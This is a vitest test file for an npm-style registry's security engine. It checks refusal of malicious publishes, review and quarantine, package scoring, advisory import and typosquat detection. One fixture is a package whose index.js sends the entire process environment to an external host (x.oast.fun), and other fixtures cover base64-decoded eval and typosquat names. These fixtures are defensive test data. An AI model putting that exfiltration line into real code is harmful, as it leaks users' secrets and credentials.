// The security engine wired into the registry: publish refused / flagged, npm audit answered from imported
// advisories, the internal security and score routes, review and owner events. Scoped and unscoped names.
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { testSecrets } from '../helpers/config.ts';
import { bearer, buildTestRegistry, docPath, publishBody } from '../helpers/npm-fixtures.ts';

type Reg = Awaited<ReturnType<typeof buildTestRegistry>>;
const internal = { 'x-internal-token': testSecrets.internalToken };

for (const name of ['sec-demo', '@acme/sec-demo']) {
  describe(`registry security (${name})`, () => {
    let r: Reg;
    beforeEach(async () => {
      r = await buildTestRegistry();
    });
    afterEach(async () => r.app.close());

    const put = (body: unknown) =>
      r.app.inject({
        method: 'PUT',
        url: docPath(name),
        headers: { 'content-type': 'application/json', ...bearer(r.alice) },
        payload: JSON.stringify(body),
      });
    const files = (pkg: Record<string, unknown>, extra: Record<string, string> = {}) => [
      {
        path: 'package/package.json',
        content: JSON.stringify({ name, version: pkg.version, description: 'security demo package', license: 'MIT', ...pkg }),
      },
      ...Object.entries(extra).map(([p, content]) => ({ path: `package/${p}`, content })),
    ];
    const securityUrl = (version: string) => `/internal/packages/${name}/${version}/security`;

    it('refuses a malicious publish with the rule and file:line, and stores nothing', async () => {
      const pkg = { version: '1.0.0', main: 'index.js' };
      const res = await put(
        publishBody(name, '1.0.0', {
          pkg: { license: 'MIT', main: 'index.js' },
          files: files(pkg, {
            'index.js':
              "const https = require('https');\nhttps.request({hostname:'x.oast.fun',method:'POST'}).end(JSON.stringify(process.env));\n",
          }),
        }),
      );
      expect(res.statusCode).toBe(403);
      expect(res.json()).toMatchObject({
        code: 'MALICIOUS_CODE',
        error: 'publish refused: T_ENV_DUMP at index.js:2: the whole environment is serialised next to a network sink',
      });
      expect((await r.app.inject({ method: 'GET', url: docPath(name) })).statusCode).toBe(404);
      expect((await r.app.inject({ method: 'GET', url: securityUrl('1.0.0'), headers: internal })).statusCode).toBe(404);
    });

    it('publishes a warn verdict, flags it for review, and an admin can release it', async () => {
      const res = await put(
        publishBody(name, '1.0.0', {
          pkg: { license: 'MIT', main: 'index.js' },
          files: files({ version: '1.0.0', main: 'index.js' }, { 'index.js': "eval(atob('Y29uc29sZS5sb2coMSk='));\n" }),
        }),
      );
      expect(res.statusCode).toBe(201);
      const rep = await r.app.inject({ method: 'GET', url: securityUrl('1.0.0'), headers: internal });
      expect(rep.statusCode).toBe(200);
      expect(rep.json()).toMatchObject({
        name,
        version: '1.0.0',
        verdict: 'warn',
        reviewState: 'flagged',
        typosquat: [],
        vulnerabilities: { direct: [], transitive: [] },
      });
      expect(rep.json().malware.filter((f: { severity: string }) => f.severity !== 'info')).toEqual([
        {
          ruleId: 'T_EVAL_DECODE',
          category: 'malware',
          severity: 'high',
          message: 'evaluates code decoded from base64/hex/char codes',
          file: 'index.js',
          line: 1,
          escalations: [],
        },
      ]);
      expect(
        (await r.app.inject({ method: 'GET', url: '/internal/security/reviews', headers: internal }))
          .json()
          .flagged.map((f: { name: string }) => f.name),
      ).toEqual([name]);
      const rel = await r.app.inject({
        method: 'POST',
        url: '/internal/security/reviews',
        headers: internal,
        payload: { name, version: '1.0.0', action: 'release', by: 'root' },
      });
      expect(rel.json()).toEqual({ ecosystem: 'npm', name, version: '1.0.0', reviewState: 'released' });
      expect((await r.app.inject({ method: 'GET', url: '/internal/security/reviews', headers: internal })).json().flagged).toEqual([]);
    });

    it('a quarantined version disappears from the packument and its tarball is refused; release restores it', async () => {
      expect((await put(publishBody(name, '1.0.0'))).statusCode).toBe(201);
      const flagged = files({ version: '1.1.0', main: 'index.js' }, { 'index.js': "eval(atob('Y29uc29sZS5sb2coMSk='));\n" });
      expect((await put(publishBody(name, '1.1.0', { pkg: { license: 'MIT', main: 'index.js' }, files: flagged }))).statusCode).toBe(201);
      const review = (action: string) =>
        r.app.inject({
          method: 'POST',
          url: '/internal/security/reviews',
          headers: internal,
          payload: { name, version: '1.1.0', action, by: 'root' },
        });
      const doc = async () => (await r.app.inject({ method: 'GET', url: docPath(name) })).json();
      const tarball = `/npm/${name}/-/${name.split('/').pop()}-1.1.0.tgz`;
      expect((await doc())['dist-tags']).toEqual({ latest: '1.1.0' });
      expect((await review('quarantine')).statusCode).toBe(200);
      const hidden = await doc();
      expect([Object.keys(hidden.versions), hidden['dist-tags']]).toEqual([['1.0.0'], { latest: '1.0.0' }]);
      const tgz = await r.app.inject({ method: 'GET', url: tarball });
      expect([tgz.statusCode, tgz.json()]).toEqual([
        403,
        { error: `${name}@1.1.0 is quarantined by the registry's security review`, code: 'VERSION_QUARANTINED' },
      ]);
      expect((await r.app.inject({ method: 'GET', url: `/internal/packages/${name}/score`, headers: internal })).json().flags.malware).toBe(
        false,
      );
      const rep = await r.app.inject({ method: 'GET', url: securityUrl('1.1.0'), headers: internal });
      expect([rep.statusCode, rep.json().reviewState]).toEqual([200, 'quarantined']);
      expect((await review('release')).statusCode).toBe(200);
      expect(Object.keys((await doc()).versions)).toEqual(['1.0.0', '1.1.0']);
      expect((await r.app.inject({ method: 'GET', url: tarball })).statusCode).toBe(200);
    });

    it('scores on publish and serves the score with its breakdown', async () => {
      expect(
        (
          await put(
            publishBody(name, '1.0.0', {
              pkg: { license: 'MIT', scripts: { test: 'vitest run' }, devDependencies: { vitest: '^4.0.0' } },
              readme: '# demo\n',
            }),
          )
        ).statusCode,
      ).toBe(201);
      const res = await r.app.inject({ method: 'GET', url: `/internal/packages/${name}/score`, headers: internal });
      expect(res.statusCode).toBe(200);
      const s = res.json();
      expect(Object.keys(s.score)).toEqual(['quality', 'popularity', 'maintenance', 'overall']);
      expect(s.score.overall).toBeCloseTo(0.3 * s.score.quality + 0.4 * s.score.popularity + 0.3 * s.score.maintenance, 3);
      expect(s.breakdown.quality.tests).toBe(0.8);
      expect(s.flags).toEqual({ deprecated: false, unstable: false, vulnerable: false, malware: false, hidden: false });
      expect(s.missing).toEqual(['coverage', 'commits', 'issues']);
      // The main API encodes scoped names as @scope%2Fname (api/packages.ts): both forms answer the same.
      const encoded = await r.app.inject({ method: 'GET', url: `/internal/packages/${name.replace('/', '%2F')}/score`, headers: internal });
      expect(encoded.json()).toEqual(s);
      const sec = await r.app.inject({
        method: 'GET',
        url: `/internal/packages/${name.replace('/', '%2F')}/1.0.0/security`,
        headers: internal,
      });
      expect([sec.statusCode, sec.json().name]).toEqual([200, name]);
      const search = await r.app.inject({ method: 'GET', url: '/npm/-/v1/search?text=sec-demo' });
      expect(search.json().objects.find((o: { package: { name: string } }) => o.package.name === name).score).toEqual({
        final: s.score.overall,
        detail: { quality: s.score.quality, popularity: s.score.popularity, maintenance: s.score.maintenance },
      });
    });

    it('imports an advisory for a published version: npm audit reports it, the owner gets package.vulnerable', async () => {
      expect((await put(publishBody(name, '1.0.0'))).statusCode).toBe(201);
      expect((await put(publishBody(name, '1.1.0'))).statusCode).toBe(201);
      const osv = {
        id: 'GHSA-test-0001',
        modified: '2026-01-01T00:00:00Z',
        summary: `Prototype pollution in ${name}`,
        database_specific: { severity: 'HIGH', cwe_ids: ['CWE-1321'] },
        affected: [
          { package: { ecosystem: 'npm', name }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '1.1.0' }] }] },
        ],
      };
      const imp = await r.app.inject({ method: 'POST', url: '/internal/security/advisories', headers: internal, payload: osv });
      expect(imp.json()).toEqual({ imported: 1, unchanged: 0, skipped: [], touched: [{ ecosystem: 'npm', name }] });
      const events = r.db.prepare(`SELECT type, payload FROM outbox WHERE type = 'package.vulnerable'`).all() as { payload: string }[];
      expect(events.map((e) => JSON.parse(e.payload))).toMatchObject([
        { ownerId: 'user-alice', data: { name, versions: ['1.0.0'], advisories: ['GHSA-test-0001'] } },
      ]);
      const audit = await r.app.inject({
        method: 'POST',
        url: '/npm/-/npm/v1/security/advisories/bulk',
        headers: { 'content-type': 'application/json' },
        payload: { [name]: ['1.0.0'], other: ['1.0.0'] },
      });
      expect(audit.statusCode).toBe(200);
      expect(audit.json()).toEqual({
        [name]: [
          {
            id: 1,
            url: 'https://github.com/advisories/GHSA-test-0001',
            title: `Prototype pollution in ${name}`,
            severity: 'high',
            vulnerable_versions: '<1.1.0',
            cwe: ['CWE-1321'],
            cvss: { score: 0, vectorString: null },
          },
        ],
      });
      const quick = await r.app.inject({
        method: 'POST',
        url: '/npm/-/npm/v1/security/audits/quick',
        headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
        payload: gzipSync(
          JSON.stringify({ name: 'app', version: '1.0.0', requires: { [name]: '^1.0.0' }, dependencies: { [name]: { version: '1.0.0' } } }),
        ),
      });
      expect(quick.statusCode).toBe(200);
      expect(quick.json().advisories['1']).toMatchObject({ id: 1, module_name: name, severity: 'high', vulnerable_versions: '<1.1.0' });
      const rep = (await r.app.inject({ method: 'GET', url: securityUrl('1.0.0'), headers: internal })).json();
      expect(rep.vulnerabilities.direct.map((v: { id: string; range: string }) => [v.id, v.range])).toEqual([['GHSA-test-0001', '<1.1.0']]);
    });
  });
}

describe('registry security: typosquats and dependency paths', () => {
  let r: Reg;
  beforeEach(async () => {
    r = await buildTestRegistry();
  });
  afterEach(async () => r.app.close());
  const put = (name: string, body: unknown) =>
    r.app.inject({
      method: 'PUT',
      url: docPath(name),
      headers: { 'content-type': 'application/json', ...bearer(r.bob) },
      payload: JSON.stringify(body),
    });

  it('the rescore job scores every package against one frozen download table', async () => {
    for (const n of ['alpha-lib', 'beta-lib']) expect((await put(n, publishBody(n, '1.0.0'))).statusCode).toBe(201);
    r.db.prepare(`UPDATE package_scores SET overall = -1`).run();
    const res = await r.app.inject({ method: 'POST', url: '/internal/security/rescore', headers: internal });
    expect(res.json()).toEqual({ rescored: 2 });
    const rows = r.db.prepare('SELECT name, overall FROM package_scores ORDER BY name').all() as { name: string; overall: number }[];
    expect(rows.map((x) => [x.name, x.overall >= 0 && x.overall <= 1])).toEqual([
      ['alpha-lib', true],
      ['beta-lib', true],
    ]);
  });

  it('refuses a name that differs from an existing one only by punctuation (npm moniker rule)', async () => {
    expect((await put('json-stream', publishBody('json-stream', '1.0.0'))).statusCode).toBe(201);
    const res = await put('jsonstream', publishBody('jsonstream', '1.0.0'));
    expect(res.statusCode).toBe(403);
    expect(res.json()).toEqual({
      error:
        "Package name too similar to existing package json-stream; try renaming your package to '@<your-scope>/jsonstream' and publishing with 'npm publish --access=public' instead",
      code: 'PACKAGE_NAME_TOO_SIMILAR',
      details: { ruleId: 'Y1', imitates: 'json-stream' },
    });
  });

  // Well-known public names (registry/security/well-known-names.ts) are protected whether or not they are published
  // here: on a fresh suite nothing here is popular, yet `lodahs` imitates one of npm's most installed names.
  const security = async (name: string, version = '1.0.0') =>
    (await r.app.inject({ method: 'GET', url: `/internal/packages/${name}/${version}/security`, headers: internal })).json();
  const squats = (rep: { typosquat: { ruleId: string; imitates: string; severity: string }[] }) =>
    rep.typosquat.map((f) => [f.ruleId, f.imitates, f.severity]);

  it('flags a look-alike of a well-known public name that is not published here', async () => {
    expect((await put('lodahs', publishBody('lodahs', '1.0.0'))).statusCode).toBe(201);
    const rep = await security('lodahs');
    expect(squats(rep)).toEqual([['Y2', 'lodash', 'high']]);
    expect(rep.reviewState).toBe('flagged');
    // The well-known name itself, and a name like no well-known one, are not look-alikes.
    for (const n of ['chalk', 'acme-billing-core']) {
      expect((await put(n, publishBody(n, '1.0.0'))).statusCode).toBe(201);
      expect(squats(await security(n))).toEqual([]);
    }
  });

  it('refuses a look-alike of a well-known name that runs an install script', async () => {
    const res = await put('lodahs', publishBody('lodahs', '1.0.0', { pkg: { scripts: { postinstall: 'node setup.js' } } }));
    expect(res.statusCode).toBe(403);
    expect(res.json()).toMatchObject({ code: 'TYPOSQUAT', details: [{ ruleId: 'Y2', imitates: 'lodash' }] });
    expect((await r.app.inject({ method: 'GET', url: docPath('lodahs') })).statusCode).toBe(404);
  });

  it('does not warn the owners of a well-known name published here about their own names, and warns others', async () => {
    const asAlice = (name: string) =>
      r.app.inject({
        method: 'PUT',
        url: docPath(name),
        headers: { 'content-type': 'application/json', ...bearer(r.alice) },
        payload: JSON.stringify(publishBody(name, '1.0.0')),
      });
    expect((await asAlice('lodash')).statusCode).toBe(201);
    expect((await asAlice('lodash-cli')).statusCode).toBe(201);
    expect(squats(await security('lodash-cli'))).toEqual([]);
    expect((await put('lodash-node', publishBody('lodash-node', '1.0.0'))).statusCode).toBe(201);
    expect(squats(await security('lodash-node'))).toContainEqual(['Y7', 'lodash', 'medium']);
  });

  it('reports a vulnerable transitive dependency with its path', async () => {
    expect((await put('vuln-leaf', publishBody('vuln-leaf', '1.0.0'))).statusCode).toBe(201);
    expect((await put('mid-pkg', publishBody('mid-pkg', '2.0.0', { pkg: { dependencies: { 'vuln-leaf': '^1.0.0' } } }))).statusCode).toBe(
      201,
    );
    expect((await put('top-app', publishBody('top-app', '3.0.0', { pkg: { dependencies: { 'mid-pkg': '^2.0.0' } } }))).statusCode).toBe(
      201,
    );
    const osv = {
      id: 'GHSA-leaf-0001',
      modified: '2026-01-01T00:00:00Z',
      summary: 'RCE in vuln-leaf',
      database_specific: { severity: 'CRITICAL' },
      affected: [{ package: { ecosystem: 'npm', name: 'vuln-leaf' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }] }] }],
    };
    await r.app.inject({ method: 'POST', url: '/internal/security/advisories', headers: internal, payload: osv });
    const rep = (await r.app.inject({ method: 'GET', url: '/internal/packages/top-app/3.0.0/security', headers: internal })).json();
    expect(
      rep.vulnerabilities.transitive.map((v: { name: string; severity: string; paths: string[][] }) => [v.name, v.severity, v.paths]),
    ).toEqual([
      ['vuln-leaf', 'critical', [['top-app@3.0.0', 'mid-pkg@2.0.0', 'vuln-leaf@1.0.0']]],
      ['mid-pkg', 'critical', [['top-app@3.0.0', 'mid-pkg@2.0.0']]],
    ]);
    expect(rep.dependencies).toEqual({ nodes: 3, cycles: [], truncated: false, partial: false, alerts: [] });
  });
});
